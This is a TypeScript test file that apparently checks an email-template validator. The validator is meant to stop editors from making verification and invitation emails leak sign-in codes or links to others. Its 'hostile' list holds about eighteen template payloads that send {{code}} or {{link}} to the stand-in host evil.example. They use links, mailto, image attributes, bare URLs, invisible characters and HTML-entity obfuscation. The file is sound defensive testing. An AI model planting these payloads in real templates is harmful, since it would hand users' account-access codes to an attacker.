/** A template cannot make the product's emails carry a sign-in code or link to another person. */
import { sql } from "kysely";
import { beforeAll, beforeEach, expect, it } from "vitest";
import { queueMail } from "#server/platform/mail/outbox.ts";
import { standardTemplates } from "#server/platform/mail/standard-templates.ts";
import { templateFault } from "#server/platform/mail/template-rules.ts";
import { savedId, testApp } from "#tests/support/app.ts";
import { makeRole, makeStaff, type Person } from "#tests/support/factories.ts";
import { prepared } from "#tests/support/prepared.ts";
import { makeWorld } from "#tests/support/sample-values.ts";

let template: string;

const test = testApp({ seed: "base" });
const world = prepared(() => makeWorld(test.db));
beforeAll(async () => {
  const { rows } = await sql<{ id: string }>`select id from email_templates
    where template_key = 'verificationCode' and language_code = 'en'`.execute(world.db);
  template = rows[0]!.id;
});
beforeEach(async () => {
  await sql`delete from deliveries`.execute(world.db);
  await sql`update email_templates set email_subject = 'Your code', email_from_name = '', email_from_email = '',
    email_message = ${genuine} where id = ${template}`.execute(world.db);
});

const save = (data: Record<string, unknown>, person: Person = world.superOwner, tableId = template) =>
  test.save("emailTemplates", tableId, data, person.token);

const genuine = "<p>Your code:</p><p>{{code}}</p>";
/** Messages that would carry the code or link of the reader to a stranger. */
const hostile = [
  `${genuine}<a href="https://evil.example/?c={{code}}">Open</a>`,
  `${genuine}<a href="https://evil.example/{{ code }}">Open</a>`,
  `${genuine}<a href="https://evil.example">{{code}}</a>`,
  `${genuine}<a href="https://evil.example"><b>Code {{code}}</b></a>`,
  `${genuine}<a href="{{link}}.evil.example">Open</a>`,
  `${genuine}<a href="https://evil.example/?u={{link}}">Open</a>`,
  `${genuine}<a href="mailto:evil@evil.example?subject={{code}}">Write</a>`,
  `${genuine}<img src="/{{code}}.png">`,
  `${genuine}<img alt="{{code}}" src="/x.png">`,
  `${genuine}<a title="x" target="{{code}}" href="{{link}}">Open</a>`,
  `${genuine}https://evil.example/?c={{code}}`,
  `${genuine}https://evil.example/?c=<b>{{code}}</b>`,
  `${genuine}https://evil.example/?c=({{code}})`,
  `${genuine}<p>https://evil.example/?c=&quot;{{code}}&quot; is the page</p>`,
  `${genuine}https://evil.example/?c=\uFEFF{{code}}`,
  `${genuine}{{code}}.evil.example`,
  `${genuine}<p>evil.example/{{link}}</p>`,
  `${genuine}<a href="https://evil.example/&#123;{code}}">Open</a>`,
];

it("Another organization's Owner changes no template", async () => {
  for (const emailMessage of [hostile[0], genuine])
    expect((await save({ emailMessage }, world.owner)).status).toBe(403);
});

it("A template that reveals a secret is refused, and one already in the database is not sent", async () => {
  const reader = await makeStaff(world.db, world.own);
  for (const emailMessage of hostile) {
    const clean = { emailSubject: "Your code", emailFromName: "Harbor" };
    expect((await save({ ...clean, emailMessage })).body, emailMessage).toMatchObject({
      status: 0,
      errors: { emailMessage: expect.stringMatching(/^\{\{(code|link)\}\} opens an account/) },
    });
    await sql`update email_templates set email_message = ${emailMessage},
      email_from_email = 'evil@evil.example', email_from_name = '{{code}}', email_subject = 'Code {{code}}'
      where id = ${template}`.execute(world.db);
    await sql`delete from deliveries`.execute(world.db);
    await queueMail(world.db, test.env, {
      to: reader.email,
      owner: { accountId: reader.accountId, organizationId: world.own },
      template: "verificationCode",
      languageCode: "en",
      values: { firstName: "Ana", organization: "Harbor", code: "ABCD-EFGH", link: "https://app.example/x" },
      eventKey: `code:${emailMessage}`,
    });
    const { rows } = await sql<Record<string, string | null>>`
      select body, subject, from_name, from_email from deliveries`.execute(world.db);
    const [mail] = rows;
    expect(mail?.["body"], emailMessage).toContain("<strong>ABCD-EFGH</strong>");
    expect(mail?.["body"]).not.toContain("evil");
    expect(mail?.["from_email"]).toBeNull();
    expect(`${mail?.["subject"]} ${mail?.["from_name"]}`).not.toContain("ABCD");
  }
});

it("Secrets appear in no subject and no sender's name", async () => {
  for (const field of ["emailSubject", "emailFromName"])
    for (const text of ["Code {{code}}", "{{ link }}"])
      expect((await save({ [field]: text })).body).toMatchObject({
        status: 0,
        errors: { [field]: expect.any(String) },
      });
  const reset = { emailSubject: "Your code", emailFromName: "{{organization}}", emailMessage: genuine };
  expect((await save(reset)).body).toMatchObject({ status: 1 });
});

it("A template without the essential part of its email is refused with the name of that part", async () => {
  const message = "The message needs {{code}}. Without it, the email doesn't work.";
  expect((await save({ emailMessage: "<p>Hello {{firstName}}</p>" })).body).toMatchObject({
    status: 0,
    message,
    errors: { emailMessage: message },
  });
  // If it's empty, the product's text is sent. A copy of a template isn't used for any email.
  expect((await save({ emailMessage: "" })).body).toMatchObject({ status: 1 });
  const copy = await test.post(
    "cloneRecord",
    { tableName: "emailTemplates", tableId: template },
    world.superOwner.token,
  );
  const free = await save({ emailMessage: "<p>x</p>" }, world.superOwner, String(copy.body["recordId"]));
  expect(free.body).toMatchObject({ status: 1 });
});

it("A secret in quotes or brackets counts as a word", () => {
  for (const place of ["<p>({{code}})</p>", "<p>Code (“{{code}}”).</p>", "'{{code}}'"])
    expect(templateFault("verificationCode", { emailMessage: place }), place).toBeNull();
});

it("The product's templates follow the rules", () => {
  for (const one of standardTemplates) expect(templateFault(one.key, { ...one }), one.name).toBeNull();
});

it("A template of invitations does not get the code in the link for people who got it by mistake", async () => {
  const message = '<p>{{link}}</p><img src="https://evil.example/?{{notMeLink}}">';
  await sql`update email_templates set email_subject = 'Welcome {{notMeLink}}', email_message = ${message}
    where template_key = 'invitation' and language_code = 'en'`.execute(world.db);
  const email = "luis.vega@test.example";
  const userRole = await makeRole(world.db, world.own);
  const data = { firstName: "Luis", lastName: "Vega", email, address: "1 Main Street", userRole };
  await savedId(test.save("users", "0", { ...data, sendInvitation: "1" }, world.owner.token));
  const { rows } = await sql<{ subject: string; body: string }>`
    select subject, body from deliveries where kind = 'invitation'`.execute(world.db);
  const body = expect.stringContaining('src="https://evil.example/?"');
  expect(rows).toEqual([{ subject: "Welcome", body }]);
});
